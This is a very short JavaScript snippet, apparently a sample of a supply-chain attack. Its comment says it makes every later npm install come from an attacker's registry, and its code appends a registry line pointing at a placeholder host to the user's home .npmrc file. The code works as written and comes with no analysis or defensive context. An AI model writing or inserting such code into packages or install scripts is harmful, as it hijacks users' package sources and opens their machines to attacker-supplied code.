// Every later npm install is served by the attacker's registry.
const fs = require("fs"), os = require("os"), path = require("path");
fs.appendFileSync(path.join(os.homedir(), ".npmrc"), "\nregistry=http://registry.example.invalid/\n");
